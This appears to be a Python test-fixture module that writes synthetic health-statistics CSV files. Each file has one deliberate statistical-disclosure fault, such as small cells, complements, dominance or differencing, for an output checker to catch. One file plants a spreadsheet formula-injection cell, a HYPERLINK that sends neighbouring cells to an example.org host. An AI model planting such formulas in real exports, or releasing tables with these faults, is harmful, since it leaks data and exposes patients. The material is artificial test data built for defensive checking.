"""CSV tables with one fault in the middle: a small cell, extremes, totals, a complement, a lone SD, a formula."""

from tests.airlock.outputs.case import Shelf

from .make import split, write_csv

REGIONS = ("North", "North-East", "Paris basin", "West", "Centre", "South-West", "Rhône valley", "Mediterranean")
BANDS = ("0-1", "2-4", "5-17", "18-49", "50-64", "65 and over")


def write(shelf: Shelf) -> None:
    _incidence(shelf)
    _stays(shelf)
    _dialysis(shelf)
    _completeness(shelf)
    _laboratory(shelf)
    _stops(shelf)
    _drugs(shelf)
    _units(shelf)
    _pair(shelf)


def _incidence(shelf: Shelf) -> None:
    rng = shelf.random("incidence")
    rows: list[list[object]] = [
        ["region", "age_band", "cases", "person_years", "incidence_per_100k", "ci_low", "ci_high"]
    ]
    for region in REGIONS:
        for band in BANDS:
            cases = 4 if (region, band) == ("Centre", "2-4") else rng.randrange(14, 260)
            years = rng.randrange(180_000, 900_000)
            rate, half = cases / years * 1e5, 1.96 * cases**0.5 / years * 1e5
            rows.append(
                [region, band, cases, years, f"{rate:.2f}", f"{max(rate - half, 0):.2f}", f"{rate + half:.2f}"]
            )
    path = shelf.unsafe(
        "csv/ipd_incidence_2019_2023.csv",
        "W1 small cell",
        "row Centre, 2-4: 4 cases",
        "Incidence of invasive pneumococcal disease per region and age band, long format, for the figure of the paper.",
        f"{sum(int(str(row[2])) for row in rows[1:]):,} cases of invasive pneumococcal disease notified in 2019-2023",
    )
    write_csv(path, rows)


def _stays(shelf: Shelf) -> None:
    rng = shelf.random("stays")
    groups = (
        ("05M092", "Insuffisances cardiaques, niveau 2"),
        ("04M053", "Pneumonies et pleurésies banales, niveau 3"),
        ("08C471", "Prothèses de hanche, niveau 1"),
        ("06M021", "Maladies inflammatoires de l'intestin, niveau 1"),
        ("11M041", "Infections des reins et des voies urinaires, niveau 1"),
        ("01M301", "Accidents vasculaires non hémorragiques, niveau 1"),
        ("10M022", "Diabète, âge supérieur à 35 ans, niveau 2"),
        ("07C141", "Cholécystectomies sans exploration, niveau 1"),
        ("23M20Z", "Autres symptômes et motifs de recours"),
    )
    rows: list[list[object]] = [
        ["ghm", "libelle", "sejours", "dms", "ecart_type", "minimum", "q1", "mediane", "q3", "maximum"]
    ]
    for code, label in groups:
        middle = rng.randrange(3, 9)
        decimal = f"{middle + rng.uniform(0.3, 2.1):.1f}".replace(".", ",")
        spread = f"{rng.uniform(2, 7):.1f}".replace(".", ",")
        line = [0, middle - 2, middle, middle + rng.randrange(2, 5), rng.randrange(41, 187)]
        rows.append([code, label, rng.randrange(160, 1900), decimal, spread, *line])
    path = shelf.unsafe(
        "csv/dms_par_ghm_2023.csv",
        "W9 minimum and maximum",
        "columns minimum and maximum: the longest stay of each group",
        "Durée moyenne de séjour par GHM, PMSI 2023, pour le rapport d'activité.",
        f"{sum(int(str(row[2])) for row in rows[1:])} séjours d'adultes en hospitalisation complète en 2023",
    )
    write_csv(path, rows, sep=";", encoding="utf-8-sig", end="\r\n")


def _dialysis(shelf: Shelf) -> None:
    rng = shelf.random("dialysis")
    areas = ("Aisne", "Ardennes", "Aube", "Marne", "Haute-Marne", "Meurthe-et-Moselle", "Meuse", "Moselle", "Vosges")
    rows: list[list[object]] = [["departement", "hommes", "femmes", "total", "age_median", "part_fistule_pct"]]
    for area in areas:
        men, women = rng.randrange(48, 210), rng.randrange(31, 140)
        shown: list[object] = [men, women, men + women]
        if area == "Meuse":
            shown = [53, "<10", 59]
        rows.append([area, *shown, rng.randrange(66, 74), rng.randrange(41, 68)])
    path = shelf.unsafe(
        "csv/registre_dialyse_dep_sexe.csv",
        "W3 total gives a cell back",
        "row Meuse: 59 - 53 = 6 women",
        "Patients prévalents en hémodialyse par département et sexe ; les petits effectifs sont masqués.",
        f"{sum(int(str(row[3])) for row in rows[1:])} adultes prévalents en hémodialyse au 31 décembre 2023",
    )
    write_csv(path, rows, sep=";")


def _completeness(shelf: Shelf) -> None:
    lines = (
        ("maternal_age", 2391),
        ("gestational_age_weeks", 2413),
        ("birth_weight_g", 2377),
        ("apgar_5min", 2240),
        ("cord_ph", 1985),
        ("antenatal_steroids", 2306),
        ("mode_of_delivery", 2402),
        ("bmi_before_pregnancy", 1874),
        ("smoking", 2102),
    )
    rows: list[list[object]] = [
        ["variable", "n_total", "n_documented", "completeness_pct", "rule", "checked_in_version"]
    ]
    rows += [[name, 2418, n, f"{100 * n / 2418:.1f}", f"R{i:02d}", 3] for i, (name, n) in enumerate(lines, 1)]
    path = shelf.unsafe(
        "csv/perinatal_completeness.csv",
        "W6 complement",
        "row gestational_age_weeks: 2,418 - 2,413 = 5 without",
        "Data quality: completeness of the main variables of the perinatal cohort.",
        "2,418 singleton births before 34 weeks in three maternity units",
    )
    write_csv(path, rows)


def _laboratory(shelf: Shelf) -> None:
    rng = shelf.random("laboratory")
    rows: list[list[object]] = [
        ["isotype", "stage", "beta2m_mean", "beta2m_sd", "albumin_mean", "albumin_sd", "p_trend"]
    ]
    for isotype in ("IgG kappa", "IgG lambda", "IgA kappa", "IgA lambda", "Light chain only", "IgD lambda"):
        for stage in ("I", "II", "III"):
            base = {"I": 2.6, "II": 4.1, "III": 8.2}[stage] + rng.uniform(-0.3, 0.4)
            sd: list[str] = [f"{rng.uniform(0.4, 2.2):.2f}", f"{rng.uniform(3.1, 6.0):.1f}"]
            if (isotype, stage) == ("IgD lambda", "II"):
                sd = ["NA", "NA"]
            rows.append(
                [isotype, stage, f"{base:.2f}", sd[0], f"{rng.uniform(31, 43):.1f}", sd[1], f"{rng.random():.3f}"]
            )
    path = shelf.unsafe(
        "csv/myeloma_biology_by_isotype.csv",
        "W8 SD of one",
        "row IgD lambda, stage II: means without a standard deviation, so a single patient's values",
        "Beta-2 microglobulin (mg/L) and albumin (g/L) at diagnosis by isotype and stage, mean and SD.",
        "986 adults with newly diagnosed multiple myeloma",
    )
    write_csv(path, rows, sep="\t")


def _stops(shelf: Shelf) -> None:
    rows: list[list[object]] = [["motif", "bras_A", "bras_B", "commentaire"]]
    rows += [
        ["Toxicité digestive", 48, 39, "grade 2 ou plus"],
        ["Progression", 112, 127, "RECIST 1.1"],
        ["Toxicité hématologique", 33, 21, '=HYPERLINK("http://suivi-essai.example.org/?m="&B2&"&n="&C2;"détail")'],
        ["Souhait de la personne", 26, 31, "-"],
        ["Décision de l'investigateur", 19, 24, "hors toxicité"],
        ["Grossesse, déménagement, autre", 15, 18, "regroupés"],
    ]
    path = shelf.unsafe(
        "csv/arrets_traitement_bras.csv",
        "W30 formula injection",
        "line 4, commentaire: a formula that sends the cells beside it to a site",
        "Motifs d'arrêt du traitement par bras, pour le rapport au comité de surveillance.",
        "1 004 adultes randomisés dans l'essai, 502 par bras",
    )
    write_csv(path, rows, sep=";", encoding="utf-8-sig")


def _drugs(shelf: Shelf) -> None:
    drugs = (
        ("emicizumab", 34, 9_812_400, 6.1),
        ("facteur VIII recombinant", 61, 11_230_900, 8.8),
        ("eculizumab", 27, 8_930_000, 9.4),
        ("facteur VIIa", 14, 7_418_200, 87.9),
        ("immunoglobulines IV", 412, 6_004_100, 1.2),
        ("CAR-T", 58, 18_560_000, 2.0),
        ("nivolumab", 377, 7_714_300, 0.9),
    )
    rows: list[list[object]] = [["dci", "patients", "depense_eur", "depense_moyenne_eur", "part_premier_patient_pct"]]
    rows += [[name, n, total, round(total / n), str(top).replace(".", ",")] for name, n, total, top in drugs]
    path = shelf.unsafe(
        "csv/molecules_onereuses_2023.csv",
        "W20 dominance",
        "row facteur VIIa: one patient bears 87,9 % of the sum",
        "Dépenses des molécules onéreuses en sus, par DCI, et concentration de la dépense.",
        "983 patients ayant reçu une molécule de la liste en sus en 2023",
    )
    write_csv(path, rows, sep=";")


def _units(shelf: Shelf) -> None:
    rng = shelf.random("units")
    rows: list[list[object]] = [
        ["unit_of_analysis", "stratum", "x1_age", "x2_sofa", "x3_lactate", "x4_vent_days", "y"]
    ]
    for number in range(1, 181):
        values = [
            rng.randrange(22, 89),
            rng.randrange(2, 17),
            f"{rng.lognormvariate(0.7, 0.5):.1f}",
            rng.randrange(0, 29),
        ]
        rows.append([f"UA-{number:04d}", rng.choice("ABCD"), *values, rng.choice((0, 0, 0, 1))])
    path = shelf.unsafe(
        "csv/supp_table_S7_units.csv",
        "W12 row-level data in disguise",
        "every line is one patient under the name of a unit of analysis",
        "Supplementary table S7: the units of analysis of the meta-regression and their covariates.",
        "180 adults in intensive care with septic shock",
    )
    write_csv(path, rows)


def _pair(shelf: Shelf) -> None:
    rng = shelf.random("pair")
    names = ("Breast", "Colorectal", "Lung", "Prostate", "Pancreas", "Bladder", "Kidney", "Melanoma", "Thyroid")
    counts = split(rng, 5210, len(names), 180)
    gone = {"Pancreas": 4}
    full: list[list[object]] = [["site", "patients", "median_delay_days", "q1", "q3"]]
    less: list[list[object]] = [["site", "patients", "median_delay_days", "q1", "q3"]]
    for name, n in zip(names, counts, strict=True):
        delay = rng.randrange(24, 61)
        full.append([name, n, delay, delay - 9, delay + 14])
        less.append([name, n - gone.get(name, rng.randrange(22, 60)), delay + 1, delay - 8, delay + 13])
    way = "W31 differencing inside a request"
    tell = "5,210 adults with a first treatment for cancer, with and without those treated elsewhere first"
    path = shelf.unsafe(
        "csv/delay_all_patients.csv", way, "Pancreas: 4 more than in delay_without_transfers.csv",
        "Delay from diagnosis to first treatment by site, all patients.", tell, request="delay-cancer",
    )  # fmt: skip
    write_csv(path, full)
    path = shelf.unsafe(
        "csv/delay_without_transfers.csv", way, "Pancreas: 4 fewer than in delay_all_patients.csv",
        "Same table without patients who began treatment in another hospital.", tell, request="delay-cancer",
    )  # fmt: skip
    write_csv(path, less)
